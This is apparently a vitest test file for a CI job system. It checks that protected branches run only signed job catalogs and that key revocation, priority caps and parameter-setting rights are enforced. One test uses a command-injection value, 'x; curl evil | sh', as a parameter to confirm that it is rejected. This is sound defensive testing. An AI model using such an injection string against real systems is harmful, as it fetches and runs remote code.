import { randomUUID } from "node:crypto";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { z } from "zod";
import { everybody } from "#access/principal.ts";
import { revokeKey } from "#access/trust-keys.ts";
import type { Verb } from "#core/verb.ts";
import { sql } from "#db/sql.ts";
import { freshDb } from "../../../test/support/fresh-db.ts";
import { farmOfGraphs } from "../farm-of-graphs.fixture.ts";
import { nameRepository } from "../repository.store.ts";
import { setBranchDefinition } from "./branch-definition.store.ts";
import { signCatalog } from "./sign-catalog.fixture.ts";

const db = await freshDb();
let farm: Awaited<ReturnType<typeof farmOfGraphs>>;
beforeAll(async () => {
  farm = await farmOfGraphs(db);
  const repository = await db.transaction((tx) => nameRepository(tx, farm.repository.path));
  await db.transaction((tx) =>
    setBranchDefinition(tx, {
      repository,
      branch: "main",
      body: { protected: true },
      setBy: "root",
      why: undefined,
      after: undefined,
    }),
  );
});
afterAll(async () => {
  await farm.stop();
  await db.close();
});

const now = new Date();

function commitJob(command: string, more = ""): void {
  farm.repository.write({
    ".grange/farm.yml": `version: 1\njobs:\n  a: {commands: "${command}", inputs: []${more}}\n`,
  });
  farm.repository.commit("Change");
}

async function templatesOf(graphId: string): Promise<string | null | undefined> {
  const rows = await db.many(
    z.object({ digest: z.string().nullable() }),
    sql`select template_catalog as digest from graph where id = ${graphId}`,
  );
  return rows[0]?.digest;
}

/** Returns the catalog that a refusal names; throws when nothing was refused. */
async function refusedCatalog(): Promise<string> {
  const refusal = await farm.submit().then(
    () => "",
    (reason: Error) => reason.message,
  );
  return /`grange sign (\S+) --key FILE`/.exec(refusal)?.[1] ?? "";
}

const signWith = (keyName: string, catalog: string) => signCatalog(db, keyName, catalog);

test("a protected branch rejects an unsigned catalog, names it, and runs it after it is signed", async () => {
  commitJob(`true # ${randomUUID()}`);

  const catalog = await refusedCatalog();
  await signWith("one", catalog);
  const { graph } = await farm.submit();

  expect(graph.state).toBe("running");
  expect(await templatesOf(graph.id)).toBe(catalog);
});

test("templates are signed once for all commits, for any values of their placeholders", async () => {
  commitJob(`true ${randomUUID()} # \${commit.sha}`);
  await signWith("holes", await refusedCatalog());

  farm.repository.write({ README: "another commit" });
  farm.repository.commit("Change");

  expect((await farm.submit()).isNew).toBe(true);
});

test("another priority or deadline needs no new signature; another command does", async () => {
  const command = `true # ${randomUUID()}`;
  commitJob(command);
  await signWith("two", await refusedCatalog());

  commitJob(command, ", priority: 9");
  expect((await farm.submit()).isNew).toBe(true);
  commitJob(`${command} evil`);

  expect(await refusedCatalog()).not.toBe("");
});

test("definitions in a request must satisfy the same rule", async () => {
  const own = { ".grange/farm.yml": "version: 1\njobs:\n  a: {commands: evil, inputs: []}\n" };

  await expect(farm.submit({ definitions: own })).rejects.toThrow(
    "is protected and runs signed definitions only",
  );
});

test("a catalog that a revoked key signed does not run any more, even with all rights", async () => {
  commitJob(`true # ${randomUUID()}`);
  await signWith("three", await refusedCatalog());
  expect((await farm.submit({}, everybody)).isNew).toBe(true);

  await db.transaction((tx) => revokeKey(tx, "three", { by: "root", now }));

  expect(await refusedCatalog()).not.toBe("");
});

test("a priority above the cap is rejected on a protected branch, and not stored", async () => {
  commitJob(`true # ${randomUUID()}`);
  await signWith("four", await refusedCatalog());
  const capped = {
    name: "bob",
    grants: everybody.grants.map((grant) => ({ ...grant, priorityCap: 3, top: false })),
  };

  await expect(farm.submit({ priority: 4 }, capped)).rejects.toThrow("above the cap of bob, 3");
  await expect(farm.submit({ top: true }, capped)).rejects.toThrow("may not use the top class");
  expect((await farm.submit({ priority: 3 }, capped)).graph).toMatchObject({
    priority: 3,
    top: false,
    submittedBy: "bob",
  });
});

describe("open values of signed templates", () => {
  const submitter = {
    name: "carol",
    grants: [rightsOf("submit")],
  };

  beforeAll(async () => {
    farm.repository.write({
      ".grange/farm.yml": [
        "version: 1",
        "parameters: {target: {default: staging}}",
        "jobs:",
        "  a:",
        `    commands: ["deploy \${parameters.target} # ${randomUUID()}"]`,
        "    inputs: []",
      ].join("\n"),
    });
    farm.repository.commit("Change");
    await signWith("templates", await refusedCatalog());
  });

  test("cannot be set by every submitter, but may be stated as the branch has them", async () => {
    const evil = { parameters: { target: "x; curl evil | sh" } };

    await expect(farm.submit(evil, submitter)).rejects.toThrow(
      "only its settings can give a value to target",
    );
    expect((await farm.submit({ parameters: { target: "staging" } }, submitter)).isNew).toBe(true);
  });

  test("can be set by a principal with `define`, or after the resulting definitions are signed", async () => {
    const production = { parameters: { target: "production" } };
    const refusal = await farm.submit(production, submitter).then(
      () => "",
      (reason: Error) => reason.message,
    );
    const filled = /`grange sign (\S+) --key FILE`/.exec(refusal)?.[1] ?? "";

    expect((await farm.submit(production, everybody)).isNew).toBe(true);
    await signWith("filled", filled);

    expect((await farm.submit(production, submitter)).isNew).toBe(true);
  });
});

function rightsOf(verb: Verb) {
  return { verb, repository: "*", branch: "*", priorityCap: null, top: false };
}
